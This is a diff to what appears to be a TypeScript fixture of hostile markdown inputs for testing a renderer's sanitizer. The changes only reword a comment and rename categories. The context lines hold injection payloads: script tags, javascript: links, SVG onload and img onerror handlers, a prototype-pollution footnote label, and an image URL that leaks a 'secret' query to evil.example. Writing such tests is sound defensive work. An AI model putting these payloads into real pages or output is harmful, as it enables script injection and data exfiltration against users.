@@ -1,6 +1,6 @@
 /**
- * Answers that try to load, to run, or to deceive; by the way they take. Whatever runs would call `pwned()`,
- * whatever loads would ask evil.example.
+ * Answers that try to load resources, run scripts or deceive the reader, by technique. A script calls `pwned()`; a
+ * request goes to evil.example.
  */
 export const hostile: Record<string, string[]> = {
   "HTML blocks": [
@@ -28,7 +28,7 @@ export const hostile: Record<string, string[]> = {
     "<svg><image href='https://evil.example/x.png'/><set attributeName=href to=javascript:pwned()></svg>",
     "![x](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/%3E)",
   ],
-  "images and data addresses": [
+  "images and data URLs": [
     "![secret](https://evil.example/p.png?q=secret)",
     "![x][p]\n\n[p]: https://evil.example/reference.png",
     "![x](javascript:pwned())",
@@ -94,7 +94,7 @@ export const hostile: Record<string, string[]> = {
     "$\\pmb{x}$ $\\fcolorbox{red}{blue}{x}$ $\\vec{x}$ $\\sqrt{\\overrightarrow{ab}}$ $\\cancel{x}$ $\\begin{array}{|c|}\\hline x\\end{array}$",
     "$\\undefined$ $\\frac{1}$ \\[ \\left( \\]",
   ],
-  notes: [
+  footnotes: [
     "x[^<script>pwned()</script>] y[^__proto__] z[^root]\n\n[^<script>pwned()</script>]: a\n[^__proto__]: b\n[^root]: c",
     "x[^a]\n\n[^a]: <img src=x onerror=pwned()> [y](javascript:pwned())",
     `[^"] onclick=pwned()]: x\n[^"]:y[^"]`,
